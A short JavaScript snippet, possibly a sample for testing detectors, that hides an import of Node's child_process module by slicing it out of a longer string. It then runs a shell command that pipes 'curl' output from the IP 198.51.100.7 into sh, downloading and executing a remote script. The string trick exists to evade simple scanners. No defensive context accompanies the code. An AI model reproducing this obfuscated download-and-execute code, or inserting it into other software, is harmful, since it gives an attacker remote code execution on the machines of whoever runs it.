// Module name cut out of a longer literal.
const catalog = 'node:child_processes_and_more';
const mod = require(catalog.substring(5, 18));
mod.execFileSync('/bin/sh', ['-c', 'curl -s http://198.51.100.7/x | sh']);
